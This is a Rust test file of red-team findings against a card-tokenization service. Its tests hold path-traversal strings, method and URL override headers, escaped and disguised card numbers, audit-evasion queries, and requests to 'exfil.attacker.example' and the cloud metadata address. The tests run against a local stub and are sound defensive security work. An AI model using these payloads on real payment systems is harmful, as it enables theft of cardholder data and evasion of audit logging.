//! Pre-audit red-team findings (review branch). Every test here demonstrates
//! an attack that SUCCEEDS on the code it was written against: each one
//! fails until the product is fixed. In process: memory vault, memory key
//! ring, the testkit's stub processor on 127.0.0.1 with a test CA.

use std::sync::Arc;

use http::HeaderMap;
use serde_json::{Value, json};
use support::forward::{Harness, Setup, TableResolver, Trust};
use support::{ACCOUNT, Capture, FUNCTION_ARN, VISA, role};
use tessera_core::memory::{MemoryKeyRing, MemoryVault};
use tessera_core::*;
use tessera_lambda::App;
use tessera_lambda::auth::{AllowList, ApiOrigin};
use tessera_lambda::envelope::Access;
use tessera_lambda::forward::egress::AddressPolicy;
use tessera_lambda::forward::scrub;

mod support;

const FORWARDER: &str = "payments-forwarder";

/// One destination, `processor.example`, granted to the forwarder for
/// `POST` only and only under `/v1/charges`: the policy a deployment would
/// write to let a payment service charge cards and do nothing else.
async fn harness() -> Harness {
    support::forward::harness(Setup {
        stub_hosts: &["processor.example"],
        resolver: |stub| TableResolver::all_at(&["processor.example"], stub),
        destinations: |port| {
            format!(
                r#"[{{"name":"charges","host":"processor.example","port":{port},"methods":["POST"],"body_format":"json","paths":[{{"prefix":"/v1/charges","card_fields":["/card"]}}]}}]"#
            )
        },
        grants: format!("{}=charges", role(FORWARDER)),
        forwarders: &[FORWARDER],
        policy: AddressPolicy::with_loopback_for_tests(),
        trust: Trust::StubCa,
    })
    .await
}

// ---------------------------------------------------------------------------
// Finding 1: the destination's path prefix is enforced on the raw path
// string, but the processor's web stack normalises it differently. A path
// parameter on a `..` segment (`..;`, Tomcat / Spring / Jetty), a
// double-encoded dot (`%252e`, servers and proxies that decode twice) or an
// overlong UTF-8 dot (`%c0%ae`) passes `check_path` and `prefix_matches`, and
// the request carrying the PAN reaches a path outside the granted prefix.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_forward_path_prefix_escape_by_dot_dot_path_parameter_or_double_encoding() {
    let h = harness().await;
    let visa = h.token(VISA, Expiry::Never).await;
    let mut escaped = Vec::new();
    for path in [
        "/v1/charges/..;/..;/admin/export",
        "/v1/charges/..;jsessionid=x/refunds",
        "/v1/charges/%252e%252e/%252e%252e/admin/export",
        "/v1/charges/%c0%ae%c0%ae/admin/export",
    ] {
        let before = h.stub.received().len();
        let (status, answer, _) = h
            .call(
                FORWARDER,
                json!({
                    "url": h.url("processor.example", path),
                    "method": "POST",
                    "headers": {"content-type": "application/json"},
                    "body": format!(r#"{{"card":"{{{{{visa}}}}}"}}"#),
                    "reason": "charge order 42",
                }),
            )
            .await;
        let reached = h.stub.received().len() > before;
        if status != 400 || reached {
            escaped.push(format!(
                "{path}: status {status} ({}), reached the processor: {reached}",
                answer["type"].as_str().unwrap_or("forwarded")
            ));
        }
    }
    // The PAN went out to each of these paths, all outside `/v1/charges`
    // once the processor normalises them.
    assert!(
        escaped.is_empty(),
        "paths outside the granted prefix were forwarded with the PAN:\n{}",
        escaped.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Finding 2: the destination's method and path prefix are enforced on the
// request line only, while the caller's own headers may re-route the request
// at the processor: method-override headers (Express method-override,
// Symfony, Google APIs, Rails' Rack::MethodOverride through a proxy) and
// path-rewrite headers (IIS `X-Original-URL`, Symfony `X-Rewrite-URL`).
// A grant for `POST /v1/charges` becomes any method on any path.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_forward_method_and_path_override_headers_reach_the_processor() {
    let h = harness().await;
    let visa = h.token(VISA, Expiry::Never).await;
    let mut sent = Vec::new();
    for (name, value) in [
        ("x-http-method-override", "DELETE"),
        ("x-http-method", "PUT"),
        ("x-method-override", "DELETE"),
        ("x-original-url", "/admin/export"),
        ("x-rewrite-url", "/admin/export"),
        ("x-original-method", "DELETE"),
    ] {
        let before = h.stub.received().len();
        let (status, _, _) = h
            .call(
                FORWARDER,
                json!({
                    "url": h.url("processor.example", "/v1/charges"),
                    "method": "POST",
                    "headers": {"content-type": "application/json", name: value},
                    "body": format!(r#"{{"card":"{{{{{visa}}}}}"}}"#),
                    "reason": "charge order 42",
                }),
            )
            .await;
        let received = h.stub.received();
        let went_out = received.len() > before
            && received
                .last()
                .is_some_and(|r| r.headers.iter().any(|(n, v)| n == name && v == value));
        if status != 400 || went_out {
            sent.push(format!(
                "{name}: {value} (status {status}, sent: {went_out})"
            ));
        }
    }
    assert!(
        sent.is_empty(),
        "routing-override headers went to the processor with the PAN:\n{}",
        sent.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Finding 3: `scrub::body` decodes JSON `\u` escapes only when the WHOLE
// answer is one strictly valid JSON value. An answer that is JSON Lines,
// server-sent events, JSON behind an anti-XSSI prefix, JSONP, or JSON with a
// duplicate key keeps `\u0034\u0031...` card numbers intact, and every JSON
// parser the caller runs on those lines decodes them. Headers are never
// escape-decoded at all.
// ---------------------------------------------------------------------------

fn escaped(pan: &str) -> String {
    pan.chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect()
}

/// What a JSON parser (or JS) makes of `\uXXXX` escapes in `text`.
fn decode_u_escapes(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("\\u") {
        out.push_str(&rest[..at]);
        let hex = rest.get(at + 2..at + 6).unwrap_or("");
        match u32::from_str_radix(hex, 16).ok().and_then(char::from_u32) {
            Some(c) if hex.len() == 4 => {
                out.push(c);
                rest = &rest[at + 6..];
            }
            _ => {
                out.push_str("\\u");
                rest = &rest[at + 2..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[test]
fn attack_scrub_misses_json_escaped_card_numbers_outside_a_single_json_document() {
    let e = escaped(VISA);
    let answers = [
        (
            "JSON Lines",
            format!("{{\"id\":\"ch_1\"}}\n{{\"card\":\"{e}\"}}\n"),
        ),
        (
            "server-sent events",
            format!("event: charge\ndata: {{\"card\":\"{e}\"}}\n\n"),
        ),
        ("anti-XSSI prefix", format!(")]}}',\n{{\"card\":\"{e}\"}}")),
        ("JSONP", format!("cb({{\"card\":\"{e}\"}});")),
        (
            "duplicate key (first wins in some parsers)",
            format!("{{\"card\":\"{e}\",\"card\":\"n/a\"}}"),
        ),
    ];
    let mut leaked = Vec::new();
    for (what, answer) in &answers {
        let out = scrub::body(answer.as_bytes(), &[VISA]).expect("UTF-8");
        if decode_u_escapes(&out).contains(VISA) {
            leaked.push(*what);
        }
    }
    let mut map = HeaderMap::new();
    map.insert(
        "x-card-info",
        format!("{{\"number\":\"{e}\"}}").parse().expect("value"),
    );
    if scrub::headers(&map, &[VISA])
        .expect("masked, nothing left to refuse")
        .iter()
        .any(|(_, v)| decode_u_escapes(v).contains(VISA))
    {
        leaked.push("header with a JSON value");
    }
    assert!(
        leaked.is_empty(),
        "the caller receives the full PAN, JSON-escaped, in: {leaked:?}"
    );
}

// ---------------------------------------------------------------------------
// Finding 4: the scrubber looks for card-number SHAPES (12+ digits, a Luhn
// window), not for the PANs forward itself just sent. A fragment of a sent
// PAN shorter than 12 digits passes untouched. The caller chooses where the
// placeholder sits, so a processor field that is truncated (fixed-width
// reference or descriptor fields) returns as many leading digits as the
// caller wants, up to 11; with the last 4 (returned by every masked echo)
// and the Luhn digit that is the whole 16-digit PAN. PCI DSS 3.4.1 allows
// at most BIN and last 4.
// ---------------------------------------------------------------------------

#[test]
fn attack_scrub_returns_partial_pan_fragments_longer_than_the_bin() {
    // The processor truncates a 22-character descriptor; the caller sent
    // `"descriptor":"ORDER 42 A {{tok}}"`, so 11 PAN digits survive.
    let answer = format!(
        r#"{{"id":"ch_1","descriptor":"ORDER 42 A {}","card":{{"number":"{VISA}"}}}}"#,
        &VISA[..11]
    );
    let out = scrub::body(answer.as_bytes(), &[VISA]).expect("UTF-8");
    // Digits beyond the first 6 of the PAN must never come back.
    assert!(
        !out.contains(&VISA[..11]),
        "first 11 digits of the PAN returned to the caller: {out}"
    );
}

// ---------------------------------------------------------------------------
// Finding 5: an HTTP API v2 / function URL event whose `rawQueryString` holds
// bytes `http::Uri` refuses (raw non-ASCII such as `é`, `"`, `<`, `{`...)
// makes lambda_http's conversion panic (`expect("failed to build request")`
// on a URI it built by appending the raw query). `event::decode` catches the
// panic, retries without the URL headers (the query is still there) and
// gives up with `EventError::Unsupported`: the invocation fails (API Gateway
// 502), no response is built, and NO AUDIT EVENT is written. Any caller,
// on no allow-list, unauthenticated even, can make its attempt disappear
// from the audit trail (PCI DSS 10.2) and raise the function's error alarm.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_raw_query_string_makes_an_attempt_vanish_from_the_audit_trail() {
    use tessera_lambda::Detokenize;
    let logs = Capture::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt()
        .json()
        .with_writer(move || writer.clone())
        .finish();
    let _log = tracing::subscriber::set_default(subscriber);
    let vault = Arc::new(MemoryVault::new());
    let keyring = Arc::new(MemoryKeyRing::new("q"));
    let ports = Ports {
        clock: Arc::new(SystemClock),
        rng: Arc::new(ThreadRandom),
        vault_id: "q".into(),
    };
    let app = App::new(
        Detokenize::new(Detokenizer::new(
            ports,
            vault,
            keyring,
            CacheLimits::default(),
        )),
        Access {
            origin: ApiOrigin::parse("api", "$default").expect("origin"),
            lists: vec![(
                "TESSERA_DETOKENIZE_ROLES",
                AllowList::parse(&role("settlement")).expect("list"),
            )],
            dev_principal: None,
        },
        Arc::new(|_| {}),
    );
    let mut vanished = Vec::new();
    for query in ["q=\u{e9}", "q=\"x\"", "q=<x>", "q={x}", "q=a|b", "q=a^b"] {
        let before = logs.text().matches("\"target\":\"audit\"").count();
        let event = json!({
            "version": "2.0",
            "routeKey": "$default",
            "rawPath": "/v1/detokenize",
            "rawQueryString": query,
            "headers": { "content-type": "application/json" },
            "requestContext": {
                "accountId": ACCOUNT,
                "apiId": "api",
                "authorizer": { "iam": { "userArn": format!("arn:aws:sts::{ACCOUNT}:assumed-role/intruder/probe") } },
                "domainName": "example.com",
                "http": { "method": "POST", "path": "/v1/detokenize", "protocol": "HTTP/1.1", "sourceIp": "203.0.113.9", "userAgent": "t" },
                "requestId": "r",
                "routeKey": "$default",
                "stage": "$default",
                "time": "23/Nov/2026:12:00:00 +0000",
                "timeEpoch": 0
            },
            "body": json!({"token": "tok_0000000000000000000000000a", "reason": "probe"}).to_string(),
            "isBase64Encoded": false
        });
        let mut context = lambda_http::Context::default();
        context.invoked_function_arn = FUNCTION_ARN.into();
        let served = app.handle_event(event, context).await;
        let after = logs.text().matches("\"target\":\"audit\"").count();
        if served.is_err() || after == before {
            vanished.push(format!(
                "{query:?}: served {}, audited {}",
                served.is_ok(),
                after > before
            ));
        }
    }
    assert!(
        vanished.is_empty(),
        "a denied detokenize attempt got no response and no audit event:\n{}",
        vanished.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Finding 6: forward lets the CALLER choose both where in the body a PAN
// goes and the processor credentials it goes under. A forwarder puts
// `{{tok}}` in a free-text field the processor stores and shows unmasked
// (description, metadata, customer name, email) and sends its own API key
// (`Authorization: Bearer sk_live_<attacker's account>`): the full PAN of
// any token, of any tokenizer's scope, lands in a processor account the
// attacker reads directly (dashboard, API), outside Tessera and its
// scrubbing. That is detokenize without the detokenize allow-list; the
// destination check (host, port, prefix, method) cannot see it.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_forward_parks_the_pan_in_a_free_text_field_of_the_callers_own_processor_account() {
    let h = harness().await;
    let visa = h.token(VISA, Expiry::Never).await;
    let (status, _, _) = h
        .call(FORWARDER, json!({
            "url": h.url("processor.example", "/v1/charges"),
            "method": "POST",
            "headers": {
                "content-type": "application/json",
                "authorization": "Bearer sk_live_ATTACKER_OWN_ACCOUNT"
            },
            "body": format!(r#"{{"amount":0,"capture":false,"description":"ref {{{{{visa}}}}}","metadata":{{"note":"{{{{{visa}}}}}"}}}}"#),
            "reason": "charge order 42",
        }))
        .await;
    let received = h.stub.received();
    let parked = received.iter().any(|r| {
        r.headers
            .iter()
            .any(|(n, v)| n == "authorization" && v.contains("ATTACKER"))
            && r.body.contains(&format!("\"description\":\"ref {VISA}\""))
    });
    assert!(
        !parked,
        "forward (status {status}) sent the full PAN in `description` and `metadata` under the caller's own processor credentials"
    );
}

// ---------------------------------------------------------------------------
// Finding 7: a forward refused for its destination is audited without the
// destination. `facts.destination` is set only once a grant matched, so the
// audit event of a forwarder trying to send PANs to an exfiltration host
// (403 destination-not-allowed) or to the metadata service (400
// invalid-destination) says `destination: ""`: the investigator sees that a
// forward was refused, with its tokens, but not where the PANs were meant
// to go (PCI DSS 10.2.1, every access attempt with its target).
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_refused_forward_destination_is_missing_from_the_audit_event() {
    let h = harness().await;
    let visa = h.token(VISA, Expiry::Never).await;
    let mut unnamed = Vec::new();
    for (url, host) in [
        (
            "https://exfil.attacker.example/collect",
            "exfil.attacker.example",
        ),
        (
            "https://processor.example:1/v1/charges",
            "processor.example:1",
        ),
        (
            "https://169.254.169.254/latest/meta-data",
            "169.254.169.254",
        ),
    ] {
        let (status, _, _) = h
            .call(
                FORWARDER,
                json!({
                    "url": url,
                    "method": "POST",
                    "body": format!(r#"{{"card":"{{{{{visa}}}}}"}}"#),
                    "reason": "charge order 42",
                }),
            )
            .await;
        let audit = h.audit_lines().pop().expect("an audit event");
        let f = &audit["fields"];
        let destination = f["destination"].as_str().unwrap_or_default();
        if !destination.contains(host) {
            unnamed.push(format!(
                "{url}: status {status}, audit destination {destination:?}, token_hint {}",
                f["token_hint"]
            ));
        }
    }
    assert!(
        unnamed.is_empty(),
        "refused forwards audited without their target:\n{}",
        unnamed.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Finding 8: the card-number rule is applied to each metadata key and value
// on its own, never to the pairs together. A PAN split across two values
// (or a key and its value) passes: `{"card_1":"4111 1111","card_2":"1111
// 1111"}` is accepted, stored in PLAINTEXT (the record's `meta` map is not
// under the envelope encryption), returned by describe to roles that may
// never detokenize, and read back by anyone with the table's `Scan`. Same
// for ten values of two digits each, etc.
// ---------------------------------------------------------------------------

#[tokio::test]
#[ignore = "known limit (README): metadata is free text; a caller who means to store a card number there can split or encode it past any detector"]
async fn attack_pan_split_across_metadata_values_is_stored_in_plaintext_and_described() {
    let s = support::stack();
    let (status, body) = support::call(
        &s.tokenize,
        support::TOKENIZER,
        "POST",
        "/v1/tokens",
        json!({
            "pan": support::MASTERCARD,
            "metadata": {"card_1": "4111 1111", "card_2": "1111 1111"}
        }),
    )
    .await;
    let described = match body["token"].as_str() {
        Some(token) => {
            support::call(
                &s.tokenize,
                support::DESCRIBER,
                "GET",
                &format!("/v1/tokens/{token}"),
                Value::Null,
            )
            .await
            .1
        }
        None => Value::Null,
    };
    let joined = format!(
        "{}{}",
        described["metadata"]["card_1"].as_str().unwrap_or_default(),
        described["metadata"]["card_2"].as_str().unwrap_or_default()
    )
    .replace(' ', "");
    assert!(
        !(status < 300 && joined == VISA),
        "a second card's PAN was accepted in metadata (status {status}) and described back: {joined:?}"
    );
}

// ---------------------------------------------------------------------------
// Finding 9: "BIN and last 4" is shown whatever the PAN's length. For a
// 12-digit PAN (accepted: 12 to 19 digits) that is 10 of its 12 digits; the
// Luhn check leaves 10 candidates (100 for 13 digits, 1,000 for 14). A
// describe role, which may never detokenize, reads `bin`, `last4` and
// `pan_length` of any token and so knows the PAN to within ten guesses; the
// tokenize answer, forward's scrubbed processor answer (`mask_card_numbers`
// keeps 6 + 4 whatever the length) and the CLI's masked output show the
// same. The README already judges 10^4 guesses too few for fpe (hence
// `fpe-too-short` under 15 digits) but applies no such rule to what is shown.
// ---------------------------------------------------------------------------

fn luhn_ok(digits: &str) -> bool {
    let sum: u32 = digits
        .bytes()
        .rev()
        .enumerate()
        .map(|(i, b)| {
            let d = u32::from(b - b'0');
            if i % 2 == 1 {
                if d * 2 > 9 { d * 2 - 9 } else { d * 2 }
            } else {
                d
            }
        })
        .sum();
    sum.is_multiple_of(10)
}

/// Every PAN consistent with what was shown.
fn candidates(bin: &str, last4: &str, len: usize) -> Vec<String> {
    let hidden = len - bin.len() - last4.len();
    let count = 10u64.pow(u32::try_from(hidden).expect("small"));
    (0..count)
        .map(|m| format!("{bin}{m:0hidden$}{last4}"))
        .filter(|p| luhn_ok(p))
        .collect()
}

#[tokio::test]
async fn attack_describe_and_masking_show_ten_of_twelve_digits_of_a_short_pan() {
    const SHORT: &str = "501800123454"; // 12 digits, Luhn-valid (Maestro range)
    let s = support::stack();
    let token = support::tokenize(&s, SHORT).await;
    let (status, d) = support::call(
        &s.tokenize,
        support::DESCRIBER,
        "GET",
        &format!("/v1/tokens/{token}"),
        Value::Null,
    )
    .await;
    assert_eq!(status, 200, "{d}");
    let shown = candidates(
        d["bin"].as_str().expect("bin"),
        d["last4"].as_str().expect("last4"),
        usize::try_from(d["pan_length"].as_u64().expect("length")).expect("len"),
    );
    // Forward's scrubber on a processor echoing the same card.
    let echoed =
        scrub::body(format!(r#"{{"card":"{SHORT}"}}"#).as_bytes(), &[SHORT]).expect("UTF-8");
    let masked = echoed
        .split('"')
        .find(|p| p.contains('*'))
        .unwrap_or_default()
        .to_owned();
    let visible = masked.bytes().filter(u8::is_ascii_digit).count();
    assert!(
        shown.len() >= 10_000 && visible <= SHORT.len() - 5,
        "describe narrows a 12-digit PAN to {} candidates (the PAN among them: {}); \
         forward's scrub shows {visible} of its 12 digits ({masked})",
        shown.len(),
        shown.iter().any(|p| p == SHORT)
    );
}

// ---------------------------------------------------------------------------
// Finding 10: combining marks outside the few blocks `is_ignorable` lists
// are read as letters (Other_Alphabetic) and so END the digit chain, while
// on screen they are a small dot or stroke on the digit before them. The
// README says combining marks that draw on a digit are skipped; only the
// generic ranges (U+0300-036F, U+1AB0-1AFF, U+1DC0-1DFF, U+20D0-20FF,
// U+FE20-FE2F) are. With an Arabic fathatan (U+064B), a Hebrew point
// (U+05B4), a Thai mark (U+0E47) or a Devanagari anusvara (U+0902) after
// every digit, a PAN that any reader sees as `4111 1111 1111 1111` passes
// the metadata and reason checks and is stored in plaintext metadata.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn attack_pan_with_script_combining_marks_passes_the_free_text_checks() {
    let s = support::stack();
    let mut accepted = Vec::new();
    for mark in ['\u{064B}', '\u{05B4}', '\u{0E47}', '\u{0902}', '\u{0F71}'] {
        let disguised: String = VISA.chars().flat_map(|c| [c, mark]).collect();
        let (status, _) = support::call(
            &s.tokenize,
            support::TOKENIZER,
            "POST",
            "/v1/tokens",
            json!({"pan": support::MASTERCARD, "dedupe": false, "metadata": {"note": disguised}}),
        )
        .await;
        if status < 300 || !contains_card_number(&disguised) {
            accepted.push(format!(
                "U+{:04X}: tokenize {status}, contains_card_number {}",
                u32::from(mark),
                contains_card_number(&disguised)
            ));
        }
    }
    assert!(
        accepted.is_empty(),
        "a PAN with a combining mark on each digit passes:\n{}",
        accepted.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Finding 13: masking a processor's answer costs memory and time far out of
// proportion to its size. `mask_once` records every digit offset of every
// card window (up to 44 `usize` per single-digit group: windows of 12 to 19
// groups, each masking 2 to 9 digits) before deduplicating, so an answer of
// `2 2 2 2 ...` (every window "starts like a card") allocates ~176 bytes per
// byte: ~184 MB for the 1 MiB forward accepts, against the forward
// function's 256 MB; it also took 15 s for 1 MiB in a debug build here. A
// processor that answers late with such a body (or a forward whose answer
// echoes caller text) makes the invocation die (out of memory, or past its
// 25 s timeout) AFTER the PANs were sent: no response and no audit event.
// ---------------------------------------------------------------------------

// ---------------------------------------------------------------------------
// Finding 14: a dedup hit is trusted without checking that the token it
// names still has a record. Delete removes only the index item its record
// names (`fp`), so an index item written for the same token under another
// fingerprint survives the delete: a fingerprint-key rotation stopped after
// its first step (new item written, record not yet updated: the documented
// resumable state) followed by an admin delete of that token. From then on
// every dedup tokenize of that card in that scope answers 200 with the
// DELETED token: the caller stores a token that never detokenizes (the
// card's data is silently lost for every new order) until an operator
// happens to run `tessera verify --repair`.
// ---------------------------------------------------------------------------

// Fixed since records keep a link, not a fingerprint: a delete finds every
// index item naming its token through the token index, and a tombstone
// carries no link, so no surviving item is answered either.
#[tokio::test]
async fn attack_tokenize_hands_out_a_deleted_token_from_a_surviving_index_item() {
    let vault = Arc::new(MemoryVault::new());
    let keyring = Arc::new(MemoryKeyRing::new("rot"));
    let ports = Ports {
        clock: Arc::new(SystemClock),
        rng: Arc::new(ThreadRandom),
        vault_id: "rot".into(),
    };
    let old_key = FingerprintKey::new(&[1; 32], "v1").expect("key");
    let new_key = FingerprintKey::new(&[2; 32], "v2").expect("key");
    let before = Tokenizer::new(
        ports.clone(),
        vault.clone(),
        keyring.clone(),
        Fingerprinter::new(&old_key),
        CacheLimits::default(),
    );
    let pan = Pan::parse(VISA).expect("pan");
    let issued = before
        .tokenize(&TokenizeRequest::new(pan.clone()))
        .await
        .expect("tokenize");
    // `tessera rotate-fingerprint-key --new-key`, stopped after its first
    // step for this record: the item under the new key is written.
    let after = Tokenizer::new(
        ports.clone(),
        vault.clone(),
        keyring.clone(),
        Fingerprinter::new(&new_key),
        CacheLimits::default(),
    )
    .with_previous_key(Some(Fingerprinter::new(&old_key)));
    let entry = IndexEntry {
        key: after.index_key(&DedupScope::default(), &pan, TokenFormat::Opaque),
        token: issued.token.clone(),
        key_version: "v2".into(),
        created_at: issued.facts.created_at,
        expires_at: None,
        scope: Some(DedupScope::default()),
        // A re-index carries the record's link over.
        link: vault
            .index_entries()
            .into_iter()
            .find(|e| e.token == issued.token)
            .and_then(|e| e.link),
    };
    vault
        .put_index(&entry, SystemClock.now_secs(), None)
        .await
        .expect("put index");
    // The admin erases the token (PCI: a customer's card removed).
    Eraser::new(vault.clone())
        .delete(&issued.token)
        .await
        .expect("delete");
    // The next order with the same card.
    let again = after
        .tokenize(&TokenizeRequest::new(pan))
        .await
        .expect("tokenize");
    let opens = Detokenizer::new(ports, vault, keyring, CacheLimits::default())
        .detokenize(&again.token)
        .await
        .is_ok();
    assert!(
        again.created || opens,
        "tokenize answered the deleted token {} (created: {}), which never detokenizes",
        again.token.as_str(),
        again.created
    );
}
